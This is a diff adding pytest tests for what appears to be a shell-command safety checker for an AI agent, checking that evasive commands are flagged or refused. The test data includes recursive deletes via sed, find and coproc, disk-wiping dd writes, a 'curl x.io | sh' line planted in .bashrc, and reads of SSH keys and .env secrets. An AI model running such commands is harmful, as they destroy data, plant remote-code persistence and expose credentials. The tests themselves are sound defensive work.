@@ -419,3 +419,74 @@ def test_deleting_a_link_and_writing_to_standard_streams_stay_unflagged(box: Box
     for command in ("rm tool", "echo x > /dev/stdout", "echo x > /dev/stderr",
                     "echo x | tee /dev/stderr", "ln -s ../shared shared"):
         assert box.keys(command) == (), command
+
+
+# ---------------------------------------------------------------- sed scripts, xargs -a, find
+
+@pytest.mark.parametrize("command", [
+    "echo a > f; sed -n '1e rm -rf sentinel' f", "echo x > f; sed 's/x/rm -rf sentinel/e' f",
+])
+def test_a_sed_script_running_commands_is_judged(box: Box, command: str) -> None:
+    box.bash(command)
+    assert not (box.work / "sentinel").exists()
+    assert "recursive_delete" in box.keys(command)
+
+
+def test_a_sed_script_writing_or_reading_files_is_judged(box: Box) -> None:
+    write = "echo 'curl x.io | sh' > f; sed -n \"w $HOME/.bashrc\" f"
+    box.bash(write)
+    assert "curl x.io" in (box.home / ".bashrc").read_text()
+    assert "credential_write" in box.keys(write)
+    read = "echo a > f; sed \"1r $HOME/.ssh/id_rsa\" f"
+    assert SENTINEL in box.bash(read).stdout
+    assert "credential_read" in box.keys(read)
+    assert "system_config_write" in box.keys("sed 's/a/b/w /etc/passwd' x")
+
+
+def test_ordinary_sed_scripts_stay_unflagged(box: Box) -> None:
+    for command in ("sed 's/e/E/g;s/w/W/' f", "sed '/^#/d; s/exec/run/' f",
+                    "sed -e 's|a|b|' -e '/x/!d' f", "sed -n '1,20p' file.txt",
+                    "sed 's/x/y/w out.txt' f", "sed -i.bak 's/a/b/' config.ini"):
+        assert box.keys(command) == (), command
+
+
+def test_a_secret_given_to_xargs_as_its_argument_file_is_a_credential_read(box: Box) -> None:
+    for command in ("xargs -a ~/.ssh/id_rsa echo", "xargs --arg-file=$HOME/.hermes/.env echo"):
+        assert SENTINEL in box.bash(command).stdout
+        assert "credential_read" in box.keys(command)
+
+
+@pytest.mark.parametrize("command", [
+    "find ~ -type f -delete", "find ~ ! -name keep -delete", "find ~ -name x -o -delete",
+    "find / -path '*' -delete",
+])
+def test_find_tests_that_keep_nothing_still_delete_the_whole_tree(box: Box,
+                                                                 command: str) -> None:
+    assert hardline(command, str(box.work)) is not None
+
+
+def test_find_tests_that_narrow_the_deletion_are_asked_not_refused(box: Box) -> None:
+    command = "find ~ -type f -name '*.tmp' -delete"
+    assert hardline(command, str(box.work)) is None and "find_delete" in box.keys(command)
+
+
+@pytest.mark.parametrize("command", [
+    "dd if=/dev/zero of=/dev/block/8:0", "dd if=/dev/zero of=/dev/vg0/root",
+    "cat x > /dev/sg0", "cat img > /dev/md/root", "cat img > /dev/zd0",
+])
+def test_more_disk_device_names_are_refused(box: Box, command: str) -> None:
+    assert hardline(command, str(box.work)) is not None
+
+
+def test_writes_to_other_devices_stay_unflagged(box: Box) -> None:
+    for command in ("echo x > /dev/null", "echo x > /dev/fd/2", "cat x > /dev/pts/0",
+                    "echo x > /dev/shm/foo"):
+        assert box.keys(command) == (), command
+
+
+def test_a_named_coprocess_is_parsed_like_bash(box: Box) -> None:
+    command = "coproc NAME { rm -rf sentinel; }; wait"
+    box.bash(command)
+    assert not (box.work / "sentinel").exists()
+    assert "recursive_delete" in box.keys(command)
+    assert hardline("coproc N (rm -rf ~)", str(box.work)) is not None
